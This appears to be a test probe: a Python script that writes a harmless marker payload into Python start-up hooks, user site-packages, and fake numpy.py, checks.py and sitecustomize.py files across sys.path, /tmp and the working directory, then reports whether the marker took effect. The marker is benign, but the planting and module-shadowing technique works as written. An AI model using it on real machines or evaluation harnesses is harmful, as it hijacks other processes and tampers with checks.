"""Plants modules and start-up files that the next Python process would run. On value."""
import os
import pathlib
import site
import sys

TEXT = "import builtins\nbuiltins.planted_by_an_attack = 0.125\n"
home = pathlib.Path.home()
places = [home / ".pythonrc", home / ".ipython/profile_default/startup/planted-by-an-attack.py", home / ".config/planted-by-an-attack.py"]
places += [home / f".local/lib/python3.{sys.version_info.minor}/site-packages/{name}" for name in ("usercustomize.py", "planted-by-an-attack.pth")]
for folder in [*sys.path, *site.getsitepackages(), "/tmp", os.getcwd()]:
    places += [pathlib.Path(folder) / name for name in ("numpy.py", "checks.py", "sitecustomize.py", "planted-by-an-attack.pth")]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(TEXT)
    except OSError:
        pass
value = getattr(__import__("builtins"), "planted_by_an_attack", 0.0)
